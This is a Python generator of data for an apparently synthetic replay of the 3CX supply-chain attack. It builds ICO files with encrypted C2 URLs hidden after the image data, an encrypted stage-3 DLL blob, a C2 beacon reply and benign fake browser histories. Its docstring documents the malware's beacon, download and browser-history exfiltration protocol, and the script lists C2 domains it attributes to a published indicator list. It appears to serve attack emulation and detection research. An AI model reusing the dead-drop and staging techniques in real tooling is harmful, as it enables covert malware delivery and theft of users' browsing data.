#!/usr/bin/env python3
"""Generate the data of the synthetic 3CX scenario (deterministic; stdlib + cryptography).

Usage:
    make_data.py --out scenarios/3cx [--arch x64|x86] [--iconic build/iconic.dll] [--verify]
                 [--icon-key HEX] [--c2-domains a.example,b.example]

--icon-key and --c2-domains are for variant builds (../variant.toml): another AES key for the
icons' trailers, and C2 URLs on other domains (icon i >= 1 gets domain (i - 1) mod N, same path).

Writes, below --out:

    github/IconStorages/images/main/icon0.ico .. icon15.ico
        Real ICO files: ICONDIR + one ICONDIRENTRY (32x32, 32 bpp) whose image is a PNG
        (32x32 RGBA square, colour from the index). After the PNG's IEND chunk (and its CRC)
        follows the dead-drop trailer:  b"$" + base64(blob), no newline.
        icon0 holds https://www.3cx.com (as the real icon0 did); icon1..15 hold C2 URLs on
        domains of the published list (see ICON_URLS).
    c2/stage3.bin
        iconic.dll of --arch (path from --iconic), as a blob (layout below), STAGE3 key/nonce.
        Skipped (with a note on stderr) when --iconic is not given.
    c2/beacon_reply.txt
        The answer of the C2 to the beacon POST: the ASCII path of the next stage
        (STAGE3_PATH, no newline); samcli.dll GETs it on the same connection.
    files/config.json                 %APPDATA%\\3CXDesktopApp\\config.json
    files/chrome_History              %LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\History
    files/edge_History                %LOCALAPPDATA%\\Microsoft\\Edge\\User Data\\Default\\History
    files/brave_History               %LOCALAPPDATA%\\BraveSoftware\\Brave-Browser\\User Data\\Default\\History
    files/firefox_places.sqlite       %APPDATA%\\Mozilla\\Firefox\\Profiles\\chainreplay.default-release\\places.sqlite
        SQLite databases (python's sqlite3): Chrome-style `urls(id, url, title, visit_count,
        typed_count, last_visit_time, hidden)` (+ meta, visits) and Firefox-style
        `moz_places(id, url, title, rev_host, visit_count, hidden, typed, frecency,
        last_visit_date, guid)` (+ moz_historyvisits); ~10 benign URLs each; fixed
        timestamps, so two runs give identical bytes.

Blob layout (icon trailer after base64 decoding, and c2/stage3.bin):

    offset 0   u32 little-endian  plaintext length (== ciphertext length)
    offset 4   16 bytes           AES-GCM tag
    offset 20  n bytes            ciphertext
    AES-256-GCM, no associated data, fixed 12-byte nonce per key (as hard-coded in samcli.c).

Keys (SHA-256 of a label; nonces are the first 12 bytes of SHA-256 of a label):

    ICON_KEY     = ed9917629f8dfc8ed6643eef78e559050a07d1b4e310c3f6cd2b28e02494e97a
                   sha256("chainreplay/3cx/icon-key/v1")
    ICON_NONCE   = 2cf5ea0b725d3282c72aa243      sha256("chainreplay/3cx/icon-nonce/v1")[:12]
    STAGE3_KEY   = 08a090089365e462a9d3beb4a3102a1a30cb131995079add1845074fbd216c66
                   sha256("chainreplay/3cx/stage3-key/v1")
    STAGE3_NONCE = 4345fbe071363bd9552aa934      sha256("chainreplay/3cx/stage3-nonce/v1")[:12]

Wire protocol of samcli.dll (for the emulator's responders):

    GET  https://raw.githubusercontent.com/IconStorages/images/main/icon<1+rand()%15>.ico
         -> 200, body = icon file
    POST https://<c2 host>/<c2 path>   Cookie: __tutma=<MachineGuid>
         body "__tutmc=<MachineGuid>"  -> 200, body = STAGE3_PATH
    GET  https://<c2 host><STAGE3_PATH>  (same Cookie) -> 200, body = c2/stage3.bin
    POST https://<c2 host>/<c2 path>   (iconic.dll, Cookie: __tutma=<MachineGuid>,
         Content-Type: application/json) body = {"HostName": ..., "History": {...}}

--verify decrypts everything written back and checks it (exit status 1 on mismatch).
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import sqlite3
import struct
import sys
import tempfile
import zlib
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

ICON_KEY = hashlib.sha256(b"chainreplay/3cx/icon-key/v1").digest()
ICON_NONCE = hashlib.sha256(b"chainreplay/3cx/icon-nonce/v1").digest()[:12]
STAGE3_KEY = hashlib.sha256(b"chainreplay/3cx/stage3-key/v1").digest()
STAGE3_NONCE = hashlib.sha256(b"chainreplay/3cx/stage3-nonce/v1").digest()[:12]

# Values hard-coded in samcli.c; asserted so a label change cannot silently diverge.
assert ICON_KEY.hex() == "ed9917629f8dfc8ed6643eef78e559050a07d1b4e310c3f6cd2b28e02494e97a"
assert ICON_NONCE.hex() == "2cf5ea0b725d3282c72aa243"
assert STAGE3_KEY.hex() == "08a090089365e462a9d3beb4a3102a1a30cb131995079add1845074fbd216c66"
assert STAGE3_NONCE.hex() == "4345fbe071363bd9552aa934"

ICON_REPO_DIR = Path("github/IconStorages/images/main")
ICON_URL_TEMPLATE = "https://raw.githubusercontent.com/IconStorages/images/main/icon{}.ico"
STAGE3_PATH = "/cdn/update/stage3.bin"

# icon0 -> the vendor site (as in the real repository); icon1..15 -> C2 URLs on
# domains from the published list, with made-up paths.
ICON_URLS = [
    "https://www.3cx.com",
    "https://akamaicontainer.com/api/v2/telemetry",
    "https://akamaitechcloudservices.com/v2/storage/sync",
    "https://azuredeploystore.com/cloud/images/status",
    "https://azureonlinecloud.com/api/v1/update",
    "https://azureonlinestorage.com/storage/blob/health",
    "https://dunamistrd.com/wp-content/feed/index",
    "https://glcloudservice.com/v1/console/telemetry",
    "https://journalide.org/blog/api/posts",
    "https://msedgepackageinfo.com/microsoft-edge/update/check",
    "https://msstorageazure.com/window/api/status",
    "https://msstorageboxes.com/xbox/storage/sync",
    "https://officeaddons.com/quality/feedback/submit",
    "https://officestoragebox.com/api/session/validate",
    "https://pbxcloudeservices.com/phonesystem/api/status",
    "https://pbxsources.com/exchange/api/v2/telemetry",
]
assert len(ICON_URLS) == 16

CONFIG_JSON = {
    "version": "18.12.416",
    "provisioning": {
        "url": "https://pbx.example.com:5001/provisioning/chainreplay",
        "extension": "104",
        "displayName": "Replay User",
    },
    "autoUpdate": True,
    "startMinimized": False,
    "language": "en",
    "logLevel": "info",
}

# (url, title) per browser; ids ascend in this order.
CHROME_URLS = [
    ("https://www.example.com/", "Example Domain"),
    ("https://en.wikipedia.org/wiki/Voice_over_IP", "Voice over IP - Wikipedia"),
    ("https://en.wikipedia.org/wiki/Private_branch_exchange", "Business telephone system - Wikipedia"),
    ("https://docs.python.org/3/library/sqlite3.html", "sqlite3 \u2014 DB-API 2.0 interface for SQLite databases"),
    ("https://www.example.org/products/phones", "Desk phones | Example Org"),
    ("https://news.example.net/2023/03/20/weekly-roundup", "Weekly roundup \u2013 Example News"),
    ("https://en.wikipedia.org/wiki/Session_Initiation_Protocol", "Session Initiation Protocol - Wikipedia"),
    ("https://www.example.com/search?q=softphone+headset", "softphone headset - Example Search"),
    ("https://calendar.example.com/week/2023/12", "Calendar - Week 12"),
    ("https://mail.example.com/inbox", "Inbox (3) - mail.example.com"),
]
EDGE_URLS = [
    ("https://www.example.net/", "Example Net"),
    ("https://en.wikipedia.org/wiki/Electron_(software_framework)", "Electron (software framework) - Wikipedia"),
    ("https://learn.example.com/windows/deployment/msi", "MSI deployment guide - Example Learn"),
    ("https://en.wikipedia.org/wiki/Windows_Installer", "Windows Installer - Wikipedia"),
    ("https://intranet.example.com/hr/holidays", "Holiday calendar | Intranet"),
    ("https://www.example.org/support/ticket/4711", "Ticket #4711 - Support"),
    ("https://en.wikipedia.org/wiki/Code_signing", "Code signing - Wikipedia"),
    ("https://weather.example.com/forecast/london", "London weather forecast"),
    ("https://www.example.com/about", "About us - Example"),
    ("https://en.wikipedia.org/wiki/DLL_Hell", "DLL Hell - Wikipedia"),
]
BRAVE_URLS = [
    ("https://search.example.com/?q=dll+side+loading", "dll side loading - Example Search"),
    ("https://en.wikipedia.org/wiki/DLL_injection", "DLL injection - Wikipedia"),
    ("https://en.wikipedia.org/wiki/Supply_chain_attack", "Supply chain attack - Wikipedia"),
    ("https://wiki.example.org/Main_Page", "Example Wiki"),
    ("https://www.example.com/blog/2023/03/release-notes", "Release notes March 2023 - Example Blog"),
    ("https://en.wikipedia.org/wiki/Advanced_Encryption_Standard", "Advanced Encryption Standard - Wikipedia"),
    ("https://en.wikipedia.org/wiki/Galois/Counter_Mode", "Galois/Counter Mode - Wikipedia"),
    ("https://status.example.net/", "Example Status"),
    ("https://www.example.org/download?file=manual.pdf", "Download manual"),
    ("https://en.wikipedia.org/wiki/Base64", "Base64 - Wikipedia"),
]
FIREFOX_URLS = [
    ("https://www.mozilla.org/en-US/firefox/central/", "Firefox central"),
    ("https://en.wikipedia.org/wiki/Firefox", "Firefox - Wikipedia"),
    ("https://developer.example.org/docs/web/http/cookies", "Using HTTP cookies - Example Dev Docs"),
    ("https://en.wikipedia.org/wiki/HTTP_cookie", "HTTP cookie - Wikipedia"),
    ("https://www.example.com/cart", "Your cart - Example"),
    ("https://forum.example.net/t/headset-echo/1234", "Headset echo on calls - Example Forum"),
    ("https://en.wikipedia.org/wiki/Portable_Network_Graphics", "PNG - Wikipedia"),
    ("https://maps.example.com/place/office", "Office - Example Maps"),
    ("https://en.wikipedia.org/wiki/ICO_(file_format)", "ICO (file format) - Wikipedia"),
    ("https://www.example.org/", "Example Org"),
]

# Fixed clock: 2023-03-20 09:00:00 UTC, one visit every 7 minutes.
BASE_UNIX = 1679302800
CHROME_EPOCH_OFFSET_S = 11644473600  # 1601 -> 1970


# ---------------------------------------------------------------- crypto


def seal(plaintext: bytes, key: bytes, nonce: bytes) -> bytes:
    """[u32 LE len][16 tag][ciphertext] with AES-256-GCM."""
    sealed = AESGCM(key).encrypt(nonce, plaintext, None)
    ct, tag = sealed[:-16], sealed[-16:]
    return struct.pack("<I", len(plaintext)) + tag + ct


def unseal(blob: bytes, key: bytes, nonce: bytes) -> bytes:
    if len(blob) < 20:
        raise ValueError("blob too short")
    (n,) = struct.unpack_from("<I", blob, 0)
    tag, ct = blob[4:20], blob[20:]
    if n != len(ct):
        raise ValueError(f"length field {n} != ciphertext length {len(ct)}")
    return AESGCM(key).decrypt(nonce, ct + tag, None)


# ---------------------------------------------------------------- PNG / ICO


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def make_png(rgba: tuple[int, int, int, int], size: int = 32) -> bytes:
    """A size x size RGBA PNG: filled square with a 2-pixel darker border."""
    r, g, b, a = rgba
    dark = (r // 2, g // 2, b // 2, a)
    rows = []
    for y in range(size):
        row = bytearray([0])  # filter: none
        for x in range(size):
            border = x < 2 or y < 2 or x >= size - 2 or y >= size - 2
            row += bytes(dark if border else rgba)
        rows.append(bytes(row))
    ihdr = struct.pack(">IIBBBBB", size, size, 8, 6, 0, 0, 0)
    idat = zlib.compress(b"".join(rows), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def icon_colour(index: int) -> tuple[int, int, int, int]:
    h = hashlib.sha256(b"chainreplay/3cx/icon-colour/%d" % index).digest()
    return (h[0] | 0x40, h[1] | 0x40, h[2] | 0x40, 255)


def make_ico(png: bytes, trailer: bytes, size: int = 32) -> bytes:
    """ICONDIR + one ICONDIRENTRY (the entry's size covers the PNG only) + PNG + trailer."""
    icondir = struct.pack("<HHH", 0, 1, 1)
    entry = struct.pack("<BBBBHHII", size % 256, size % 256, 0, 0, 1, 32, len(png), 6 + 16)
    return icondir + entry + png + trailer


def icon_trailer(url: str) -> bytes:
    return b"$" + base64.b64encode(seal(url.encode("ascii"), ICON_KEY, ICON_NONCE))


def icon_to_url(ico: bytes) -> str:
    """What samcli.dll does: first 'IEND', skip type + CRC, expect '$', base64, decrypt."""
    i = ico.find(b"IEND")
    if i < 0:
        raise ValueError("no IEND chunk")
    j = i + 8
    if ico[j : j + 1] != b"$":
        raise ValueError("no '$' after IEND")
    blob = base64.b64decode(ico[j + 1 :], validate=True)
    return unseal(blob, ICON_KEY, ICON_NONCE).decode("ascii")


# ---------------------------------------------------------------- SQLite


def _write_db(path: Path, build) -> None:
    """Builds the database in a temp dir and copies its bytes (no journal left behind)."""
    with tempfile.TemporaryDirectory() as tmp:
        p = Path(tmp) / "db.sqlite"
        con = sqlite3.connect(p)
        try:
            con.execute("PRAGMA page_size = 4096")
            con.execute("PRAGMA journal_mode = DELETE")
            build(con)
            con.commit()
        finally:
            con.close()
        path.write_bytes(p.read_bytes())


def make_chromium_history(path: Path, urls: list[tuple[str, str]], seed: int) -> None:
    def build(con: sqlite3.Connection) -> None:
        con.executescript(
            """
            CREATE TABLE meta(key LONGVARCHAR NOT NULL UNIQUE PRIMARY KEY, value LONGVARCHAR);
            CREATE TABLE urls(id INTEGER PRIMARY KEY AUTOINCREMENT, url LONGVARCHAR,
                title LONGVARCHAR, visit_count INTEGER DEFAULT 0 NOT NULL,
                typed_count INTEGER DEFAULT 0 NOT NULL, last_visit_time INTEGER NOT NULL,
                hidden INTEGER DEFAULT 0 NOT NULL);
            CREATE TABLE visits(id INTEGER PRIMARY KEY AUTOINCREMENT, url INTEGER NOT NULL,
                visit_time INTEGER NOT NULL, from_visit INTEGER, transition INTEGER DEFAULT 0 NOT NULL,
                segment_id INTEGER, visit_duration INTEGER DEFAULT 0 NOT NULL);
            CREATE INDEX urls_url_index ON urls (url);
            """
        )
        con.executemany(
            "INSERT INTO meta(key, value) VALUES (?, ?)",
            [("version", "56"), ("last_compatible_version", "16"), ("mmap_status", "-1")],
        )
        vid = 0
        for i, (url, title) in enumerate(urls, start=1):
            t = (BASE_UNIX + CHROME_EPOCH_OFFSET_S + seed * 86400 + i * 420) * 1_000_000
            count = 1 + (i * 7 + seed) % 5
            con.execute(
                "INSERT INTO urls(id, url, title, visit_count, typed_count, last_visit_time, hidden)"
                " VALUES (?, ?, ?, ?, ?, ?, 0)",
                (i, url, title, count, i % 2, t),
            )
            for k in range(count):
                vid += 1
                con.execute(
                    "INSERT INTO visits(id, url, visit_time, from_visit, transition, segment_id,"
                    " visit_duration) VALUES (?, ?, ?, 0, 805306368, 0, ?)",
                    (vid, i, t - (count - 1 - k) * 3_600_000_000, 15_000_000 + k * 1_000_000),
                )

    _write_db(path, build)


def make_firefox_places(path: Path, urls: list[tuple[str, str]]) -> None:
    def build(con: sqlite3.Connection) -> None:
        con.executescript(
            """
            CREATE TABLE moz_places(id INTEGER PRIMARY KEY, url LONGVARCHAR, title LONGVARCHAR,
                rev_host LONGVARCHAR, visit_count INTEGER DEFAULT 0, hidden INTEGER DEFAULT 0 NOT NULL,
                typed INTEGER DEFAULT 0 NOT NULL, frecency INTEGER DEFAULT -1 NOT NULL,
                last_visit_date INTEGER, guid TEXT, foreign_count INTEGER DEFAULT 0 NOT NULL,
                url_hash INTEGER DEFAULT 0 NOT NULL, description TEXT, preview_image_url TEXT,
                origin_id INTEGER);
            CREATE TABLE moz_historyvisits(id INTEGER PRIMARY KEY, from_visit INTEGER,
                place_id INTEGER, visit_date INTEGER, visit_type INTEGER, session INTEGER,
                source INTEGER DEFAULT 0 NOT NULL, triggeringPlaceId INTEGER);
            CREATE UNIQUE INDEX moz_places_url_hashindex ON moz_places (url_hash, url);
            """
        )
        for i, (url, title) in enumerate(urls, start=1):
            host = url.split("/")[2]
            t = (BASE_UNIX + 3 * 86400 + i * 420) * 1_000_000
            guid = base64.urlsafe_b64encode(hashlib.sha256(url.encode()).digest()[:9]).decode()
            url_hash = int.from_bytes(hashlib.sha256(url.encode()).digest()[:6], "big")
            con.execute(
                "INSERT INTO moz_places(id, url, title, rev_host, visit_count, hidden, typed, frecency,"
                " last_visit_date, guid, foreign_count, url_hash) VALUES (?, ?, ?, ?, 1, 0, 0, ?, ?, ?, 0, ?)",
                (i, url, title, host[::-1] + ".", 100 + i, t, guid, url_hash),
            )
            con.execute(
                "INSERT INTO moz_historyvisits(id, from_visit, place_id, visit_date, visit_type, session,"
                " source) VALUES (?, 0, ?, ?, 1, 0, 0)",
                (i, i, t),
            )

    _write_db(path, build)


# ---------------------------------------------------------------- main


def write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def generate(out: Path, arch: str, iconic: Path | None) -> list[Path]:
    written = []
    for i, url in enumerate(ICON_URLS):
        ico = make_ico(make_png(icon_colour(i)), icon_trailer(url))
        p = out / ICON_REPO_DIR / f"icon{i}.ico"
        write(p, ico)
        written.append(p)

    if iconic is not None:
        pe = iconic.read_bytes()
        machine = struct.unpack_from("<H", pe, struct.unpack_from("<I", pe, 0x3C)[0] + 4)[0]
        want = {"x64": 0x8664, "x86": 0x14C}[arch]
        if pe[:2] != b"MZ" or machine != want:
            raise SystemExit(f"{iconic}: not a {arch} PE (machine 0x{machine:x})")
        p = out / "c2" / "stage3.bin"
        write(p, seal(pe, STAGE3_KEY, STAGE3_NONCE))
        written.append(p)
    else:
        print("make_data: --iconic not given, c2/stage3.bin not written", file=sys.stderr)
    p = out / "c2" / "beacon_reply.txt"
    write(p, STAGE3_PATH.encode("ascii"))
    written.append(p)

    files = out / "files"
    files.mkdir(parents=True, exist_ok=True)
    p = files / "config.json"
    write(p, (json.dumps(CONFIG_JSON, indent=2) + "\n").encode("utf-8"))
    written.append(p)
    for name, urls, seed in (
        ("chrome_History", CHROME_URLS, 0),
        ("edge_History", EDGE_URLS, 1),
        ("brave_History", BRAVE_URLS, 2),
    ):
        p = files / name
        make_chromium_history(p, urls, seed)
        written.append(p)
    p = files / "firefox_places.sqlite"
    make_firefox_places(p, FIREFOX_URLS)
    written.append(p)
    return written


def verify(out: Path, iconic: Path | None) -> bool:
    ok = True
    for i, url in enumerate(ICON_URLS):
        got = icon_to_url((out / ICON_REPO_DIR / f"icon{i}.ico").read_bytes())
        if got != url:
            print(f"icon{i}: {got!r} != {url!r}", file=sys.stderr)
            ok = False
    if iconic is not None and unseal((out / "c2" / "stage3.bin").read_bytes(), STAGE3_KEY, STAGE3_NONCE) != (
        iconic.read_bytes()
    ):
        print("c2/stage3.bin does not decrypt to --iconic", file=sys.stderr)
        ok = False
    for name, urls, table in (
        ("chrome_History", CHROME_URLS, "urls"),
        ("edge_History", EDGE_URLS, "urls"),
        ("brave_History", BRAVE_URLS, "urls"),
        ("firefox_places.sqlite", FIREFOX_URLS, "moz_places"),
    ):
        con = sqlite3.connect(f"file:{out / 'files' / name}?mode=ro", uri=True)
        rows = con.execute(f"SELECT url, title FROM {table} ORDER BY id DESC LIMIT 500").fetchall()
        con.close()
        if rows != list(reversed(urls)):
            print(f"{name}: unexpected rows", file=sys.stderr)
            ok = False
    return ok


def configure_variant(icon_key: str | None, c2_domains: str | None) -> None:
    """Variant builds: another icon AES key, other C2 domains (icon0 keeps the vendor site)."""
    global ICON_KEY
    if icon_key:
        key = bytes.fromhex(icon_key)
        if len(key) != 32:
            raise SystemExit("make_data: --icon-key must be 32 bytes (64 hex digits)")
        ICON_KEY = key
    if c2_domains:
        domains = [d.strip() for d in c2_domains.split(",") if d.strip()]
        if not domains:
            raise SystemExit("make_data: --c2-domains is empty")
        for i in range(1, len(ICON_URLS)):
            path = "/" + ICON_URLS[i].split("/", 3)[3]
            ICON_URLS[i] = f"https://{domains[(i - 1) % len(domains)]}{path}"


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0], allow_abbrev=False)
    ap.add_argument("--out", required=True, type=Path, help="scenario directory")
    ap.add_argument("--arch", choices=("x64", "x86"), default="x64")
    ap.add_argument("--iconic", type=Path, help="built iconic.dll of --arch (for c2/stage3.bin)")
    ap.add_argument("--verify", action="store_true", help="decrypt/read back what was written")
    ap.add_argument("--icon-key", help="variant: AES-256 key of the icon trailers, hex")
    ap.add_argument("--c2-domains", help="variant: comma-separated C2 domains for icon1..icon15")
    args = ap.parse_args(argv)
    configure_variant(args.icon_key, args.c2_domains)
    generate(args.out, args.arch, args.iconic)
    if args.verify and not verify(args.out, args.iconic):
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
